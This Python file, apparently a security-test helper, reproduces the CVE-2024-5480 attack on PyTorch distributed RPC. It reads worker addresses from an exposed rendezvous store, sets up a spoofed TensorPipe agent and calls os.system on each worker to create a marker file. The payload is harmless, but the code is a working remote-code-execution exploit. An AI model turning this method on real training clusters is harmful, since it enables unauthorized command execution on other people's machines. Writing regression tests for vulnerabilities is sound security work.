"""A process outside an RPC job that uses torch's own RPC machinery to make the job's
workers run a Python function (CVE-2024-5480's attack): it reads the workers' TensorPipe
addresses from the job's rendezvous store (which anyone who reaches its port can read),
starts torch's TensorPipe agent in a group of its own that names each worker as a peer
at that address (over "uv", TCP), and calls ``os.system("touch <marker>")`` there by
Python RPC.

    python tests/support/security_outsider.py --store-port P --workers worker0,worker1 --marker PATH

Prints one line per worker: what the call did.
"""
import argparse
import datetime
import os
import warnings

import torch.distributed as dist
import torch.distributed.autograd as dist_autograd
import torch.distributed.rpc as rpc
from torch.distributed.rpc import api

warnings.filterwarnings("ignore")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--store-port", type=int, required=True)
    parser.add_argument("--workers", required=True)
    parser.add_argument("--marker", required=True)
    args = parser.parse_args()
    job_store = dist.TCPStore("127.0.0.1", args.store_port, None, False, datetime.timedelta(seconds=10))
    targets = {}
    for worker in args.workers.split(","):
        raw = job_store.get(f"rpc_prefix_0/addrs/{worker}")
        # "<transport>://host:port" (after a 32-byte MAC, in a job with a key)
        address = raw[raw.index(b"://") + 3:].decode(errors="replace")
        targets[f"victim_{worker}"] = f"uv://{address}"
    # A group of its own, whose names and addresses this process makes up: torch's agent
    # reads them from the store (names/<rank>, addrs/<name>).
    store = dist.HashStore()
    names = ["outsider"] + list(targets)
    for rank, name in enumerate(names):
        store.set(f"names/{rank}", name)
    for name, url in targets.items():
        store.set(f"addrs/{name}", url)
    options = rpc.TensorPipeRpcBackendOptions(num_worker_threads=4, rpc_timeout=5, _transports=["uv"], _channels=["basic"])
    dist_autograd._init(0)
    agent = rpc.TensorPipeAgent(store, "outsider", 0, len(names), options, {}, [])
    api._init_rpc_states(agent)
    for name, url in targets.items():
        try:
            rpc.rpc_sync(name, os.system, args=(f"touch {args.marker}",), timeout=5)
            print(f"{name} at {url}: the call ran", flush=True)
        except Exception as e:  # noqa: BLE001
            print(f"{name} at {url}: {type(e).__name__}: {str(e).splitlines()[0][:200]}", flush=True)
    os._exit(0)  # the made-up peers never shut down with us


if __name__ == "__main__":
    main()
